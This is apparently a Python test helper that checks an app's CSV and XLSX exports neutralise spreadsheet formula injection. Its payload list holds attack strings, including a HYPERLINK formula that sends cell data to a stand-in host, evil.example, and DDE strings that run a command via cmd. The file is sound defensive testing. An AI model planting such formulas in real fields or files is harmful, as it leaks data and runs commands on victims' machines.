"""Formula payloads and the checks that a downloaded CSV or XLSX cannot run them, for the bad-input tests."""

import csv
import io

from openpyxl import load_workbook

# What an attacker types into a title, a comment or a name so that the coordinator's spreadsheet runs it.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/leak?d="&B3&"-"&C3,"Voir la demande")',
    '-1+HYPERLINK("http://evil.example/leak","Voir")',
    "+SUM(1;2)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-2,5+1",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_field(value: str) -> str:
    """How the app's CSV dialect (semicolons, minimal quoting) writes one text cell."""
    if any(c in value for c in ';"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def _is_plain_number(cell: str) -> bool:
    text = cell.removeprefix("-").replace(",", "", 1).replace(".", "", 1)
    return text.isdigit()


def assert_csv_inert(body: bytes, stored: list[str], where: str) -> None:
    """Byte by byte: every stored payload is in the file as `'payload` (quoted as the dialect quotes it),
    never raw; and no cell of the file starts with a formula character unless it is a plain number."""
    assert body.startswith(b"\xef\xbb\xbf"), f"{where}: no BOM"
    for value in stored:
        inert = csv_field("'" + value).encode("utf-8")
        assert inert in body, f"{where}: {value!r} is not written as the inert {inert!r}"
        raw = (";" + csv_field(value)).encode("utf-8")
        assert raw not in body, f"{where}: {value!r} is written raw"
    for line, row in enumerate(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"), 1):
        for cell in row:
            assert not cell.startswith(DANGEROUS_STARTS) or _is_plain_number(cell), (
                f"{where}: line {line} holds a live formula cell {cell!r}"
            )


def assert_xlsx_inert(body: bytes, stored: list[str], where: str) -> None:
    """Cell by cell: no formula anywhere; each stored payload is a string cell with the quote prefix;
    the numbers are still numbers."""
    sheet = load_workbook(io.BytesIO(body)).active
    # XML reads a carriage return back as a line feed.
    stored = {value.replace("\r", "\n"): value for value in stored}
    found = set()
    numbers = 0
    for row in sheet.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_STARTS):
                assert cell.data_type == "s" and cell.quotePrefix, f"{where}: {cell.coordinate} {cell.value!r}"
            if cell.value in stored:
                assert cell.data_type == "s" and cell.quotePrefix, f"{where}: {cell.coordinate} {cell.value!r}"
                found.add(cell.value)
            if isinstance(cell.value, int | float):
                assert cell.data_type == "n", f"{where}: {cell.coordinate}"
                numbers += 1
    assert found == set(stored), f"{where}: missing {set(stored) - found}"
    assert numbers, f"{where}: no number cell left"
